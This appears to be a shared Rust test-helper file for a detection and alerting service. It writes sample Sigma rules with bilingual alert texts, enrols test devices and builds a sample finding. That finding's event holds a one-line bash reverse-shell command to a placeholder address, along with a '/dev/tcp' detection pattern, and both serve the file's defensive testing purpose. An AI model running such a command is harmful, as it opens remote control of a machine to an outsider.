//! What the tests of this crate share: two rules with their texts, a device, findings.

use crate::detection::Rules;
use crate::help::Help;
use ::store::Actor;
use ::web::{Content, Shelf};
use axum::Router;
use base::*;
use customer::device;
use pack::{Asked, Noise, Packs};
use trial::Shop;
use wire::{Event, Finding, Machine, Matched, Source};

/// The pages of this crate and of devices.
pub fn routes() -> Router<web::App> {
    crate::routes().merge(device::routes())
}

/// Puts this crate's content on the shelf, with two rules of the tests' own.
pub fn fill(shelf: &mut Shelf, content: &Content) {
    let dir = tempfile::tempdir().expect("a directory");
    write_rules(dir.path(), "title: Reverse Shell");
    let (rules, faults) = Rules::read(&Content::disk(dir.path()));
    assert!(faults.is_empty(), "{faults:?}");
    shelf.put(rules.titles());
    shelf.put(rules);
    let (help, faults) = Help::read(content);
    assert!(faults.is_empty(), "{faults:?}");
    shelf.put(help);
    readiness::fill(shelf, content);
    shelf.put(crate::recording::Judging::read(content));
    shelf.put(crate::recording::Taking::default());
}

/// Writes the two rules; the text of the first one's file is given.
pub fn write_rules(dir: &std::path::Path, first: &str) {
    let folder = dir.join("sigma/linux");
    std::fs::create_dir_all(&folder).expect("made");
    let telling = |title: &str, rest: [&str; 4]| {
        let [what, now, we, analyst] = rest;
        format!("title = \"{title}\"\nwhat = \"{what}\"\nnow = \"{now}\"\nwe = \"{we}\"\nanalyst = \"{analyst}\"\n")
    };
    let ja = ["外から操作されています。", "LANを抜いてください。", "記録しました。", "根拠: bash -i"];
    let en = ["Somebody outside is at the keyboard.", "Unplug the LAN cable.", "We kept a record.", "Basis: bash -i"];
    let text = |ja_title: &str, en_title: &str| format!("[ja]\n{}\n[en]\n{}", telling(ja_title, ja), telling(en_title, en));
    for (name, yaml, text) in [
        ("reverse-shell", first, text("外から操作された疑い", "Somebody outside controls this computer")),
        ("sudo-failed", "title: Failed Sudo", text("管理者になろうとして失敗", "Somebody failed to become administrator")),
    ] {
        std::fs::write(folder.join(format!("{name}.yml")), yaml).expect("written");
        std::fs::write(folder.join(format!("{name}.text.toml")), text).expect("written");
    }
    let hashes = include_str!("../../../content/sigma/bad-hashes.toml");
    std::fs::write(dir.join("sigma/bad-hashes.toml"), hashes).expect("written");
}

pub fn machine(host: &str) -> Machine {
    Machine {
        host: host.to_owned(),
        os: "linux".to_owned(),
        os_name: "Debian GNU/Linux 12 (bookworm)".to_owned(),
        kernel: "6.1.0".to_owned(),
        arch: "x86_64".to_owned(),
        machine: format!("machine of {host}"),
    }
}

/// A device of the shop's company, enrolled without a wire.
pub async fn add_device(shop: &Shop, company: &CompanyId, host: &str) -> DeviceId {
    let id = DeviceId::new();
    let mut tx = shop.app.store.write(company, Actor::Device(id.clone())).await.expect("a transaction");
    let machine = machine(host);
    let arrival =
        device::Arrival { id: id.clone(), machine: &machine, fingerprint: format!("print of {id}"), serial: "1".to_owned() };
    device::enrol(&mut tx, &arrival).await.expect("enrolled");
    tx.commit().await.expect("kept");
    id
}

/// A finding of one of the two rules, as an agent sends it.
pub fn finding(name: &str, level: &str, user: &str) -> Finding {
    let event = Event {
        at: trial::morning().0 - 5_000,
        source: Source { product: "linux".to_owned(), category: "process_creation".to_owned(), service: String::new() },
        fields: [("Image", "/usr/bin/bash"), ("CommandLine", "bash -i >& /dev/tcp/203.0.113.7/4444"), ("User", user)]
            .map(|(name, value)| (name.to_owned(), value.to_owned()))
            .into(),
    };
    Finding {
        rule: format!("00000000-0000-4000-8000-00000000000{}", name.len() % 10),
        name: name.to_owned(),
        title: "A Title in English".to_owned(),
        level: level.to_owned(),
        tags: vec!["attack.execution".to_owned(), "attack.t1059.004".to_owned()],
        at: event.at,
        matched: vec![Matched {
            selection: "selection".to_owned(),
            field: "CommandLine".to_owned(),
            value: "bash -i >& /dev/tcp/203.0.113.7/4444".to_owned(),
            pattern: "*/dev/tcp/*".to_owned(),
        }],
        events: vec![event],
        drill: None,
    }
}

/// Takes findings as one batch would.
pub async fn give(shop: &Shop, company: &CompanyId, id: &DeviceId, findings: &[Finding]) {
    let mut tx = shop.app.store.write(company, Actor::Device(id.clone())).await.expect("a transaction");
    for finding in findings {
        crate::alert::take(&mut tx, id, finding).await.expect("taken");
    }
    tx.commit().await.expect("kept");
}

/// The ids of a company's alerts, the latest raised first, as the API tells them.
pub async fn alerts(visitor: &trial::Visitor) -> Vec<serde_json::Value> {
    let reply = visitor.get("/api/v1/alerts").await;
    let body: serde_json::Value = serde_json::from_slice(&reply.bytes).expect("json");
    body["items"].as_array().expect("items").clone()
}

/// The names of the facts that a company's ledger holds after its founding.
pub async fn facts(shop: &Shop, company: &CompanyId) -> Vec<String> {
    let entries = shop.app.store.ledger(company, 1, 1_000).await.expect("a ledger");
    entries.iter().filter_map(|entry| entry.fact()).map(|fact| fact.name()).collect()
}

/// The packs in a data folder with one more, `others`, made of these rules: file name without ending, and text.
pub fn pack_of(dir: &std::path::Path, rules: &[(&str, String)]) -> Packs {
    let from = dir.join("from");
    std::fs::create_dir_all(&from).expect("made");
    for (name, text) in rules {
        std::fs::write(from.join(format!("{name}.yml")), text).expect("written");
    }
    std::fs::write(from.join("LICENSE"), "Detection Rule License (DRL) 1.1").expect("written");
    let packs = Packs::of(&dir.join("data"));
    let asked = Asked {
        from,
        name: "others".to_owned(),
        only: Vec::new(),
        min_level: sigma::Level::Informational,
        background: Vec::new(),
        noise: Noise::default(),
        now: trial::morning(),
        east: 0,
    };
    pack::import(&packs, &asked).expect("imported");
    packs
}
